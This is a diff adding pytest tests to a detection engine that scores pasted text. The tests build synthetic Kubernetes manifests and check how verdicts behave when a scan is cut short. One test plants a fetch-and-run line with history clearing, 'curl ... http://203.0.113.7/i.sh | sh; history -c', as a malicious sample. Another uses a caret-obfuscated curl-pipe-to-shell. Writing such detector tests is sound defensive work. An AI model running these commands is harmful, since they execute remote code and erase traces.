@@ -8,13 +8,15 @@ decoded and found, or, when it cannot be, the verdict fails closed and names the
 
 from __future__ import annotations
 
+import random
 from collections.abc import Callable
+from dataclasses import replace
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from app.detection import Engine, Level, Verdict, windows
+from app.detection import Context, Engine, Level, PasteTarget, Verdict, windows
 from app.detection.windows import select_windows
 from tests.app.detection import bigtexts
 
@@ -246,3 +248,82 @@ def test_the_trigger_scan_finds_what_finditer_finds(text: str) -> None:
         assert list(windows.scan(pattern, data, half)) == [
             m.span() for m in pattern.finditer(data, half)
         ]
+
+
+def _manifest(size: int, init: str) -> str:
+    """A long Kubernetes manifest: deployments, TLS secrets of random bytes, config maps whose
+    init script is `init`."""
+    rng = random.Random("manifest")
+    docs: list[str] = []
+    i = 0
+    while sum(map(len, docs)) < size:
+        i += 1
+        crt, key = _b64(rng.randbytes(600)), _b64(rng.randbytes(300))
+        docs.append(
+            f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: svc-{i}\nspec:\n"
+            f"  replicas: 3\n  template:\n    spec:\n      containers:\n      - name: app\n"
+            f"        image: registry.example.com/team/svc-{i}:1.{i}.0\n---\n"
+            f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: tls-{i}\n"
+            f"type: kubernetes.io/tls\ndata:\n  tls.crt: {crt}\n  tls.key: {key}\n---\n"
+            f"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg-{i}\ndata:\n"
+            f"  init.sh: |\n    #!/bin/sh\n    set -eu\n    {init.format(i=i)}\n---\n"
+        )
+    return "".join(docs)[:size]
+
+
+def _bootstrap_map(script: str) -> str:
+    return (
+        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bootstrap\nbinaryData:\n"
+        f"  bootstrap.sh: {_b64(script.encode())}\n"
+    )
+
+
+# A readable shell script, base64'd into a config map: too long for the deep windows.
+BOOTSTRAP = "\n".join(f"mkdir -p /opt/app/part-{i} && echo 'step {i} done'" for i in range(3000))
+
+
+def test_a_long_text_cut_short_is_a_warning_not_a_block_without_evidence(patient: Engine) -> None:
+    # A manifest whose bootstrap script the deep windows cannot decode whole: not clean (the
+    # part not read could hold anything), but not malicious either: being cut short is no
+    # evidence, and an everyday download in the part read is not enough to block.
+    text = _manifest(
+        256 * KiB, "curl -fsS http://config.prod.svc.cluster.local/v1/{i} -o /etc/app.json"
+    )
+    text += _bootstrap_map(BOOTSTRAP)
+    page = Context(source="https://github.com/example-org/infra/blob/main/prod.yaml")
+    for context in (Context(), replace(page, target=PasteTarget.TERMINAL)):
+        verdict = patient.analyze(text, context)
+        assert not verdict.complete, verdict.rule_ids
+        assert verdict.level is Level.SUSPICIOUS, (context, verdict.rule_ids, verdict.score)
+
+
+def test_a_long_text_cut_short_is_blocked_on_what_was_read(patient: Engine) -> None:
+    text = _manifest(256 * KiB, "curl -fsSL http://203.0.113.7/i.sh | sh; history -c")
+    text += _bootstrap_map(BOOTSTRAP)
+    verdict = patient.analyze(text)
+    assert not verdict.complete
+    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
+
+
+def test_a_word_is_hidden_only_if_the_whole_raw_text_was_read(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # A long text's raw layer is matched last; when the budget stops it part-way, a command word
+    # the deep layers saw may well be in the raw text's unread part: no "hidden word" claim.
+    engine = Engine(budget_ms=60_000)
+    text = _manifest(256 * KiB, "curl -fsS https://config.example.com/v1/{i} -o /etc/app.json")
+    assert "PG-WIN-HIDDEN-COMMAND-WORD" not in engine.analyze(text).rule_ids
+    whole = engine.rules.hits
+
+    def raw_cut_short(
+        layer: str, deadline: float, data: bytes | None = None
+    ) -> tuple[frozenset[int], bool]:
+        found, finished = whole(layer, deadline, data)
+        return (frozenset(), False) if data is not None else (found, finished)
+
+    monkeypatch.setattr(engine.rules, "hits", raw_cut_short)
+    verdict = engine.analyze(text)
+    assert not verdict.complete
+    assert "PG-WIN-HIDDEN-COMMAND-WORD" not in verdict.rule_ids, verdict.rule_ids
+    # read whole, a word written with carets is still hidden
+    assert "PG-WIN-HIDDEN-COMMAND-WORD" in Engine().analyze("c^u^r^l -s x.test | s^h").rule_ids
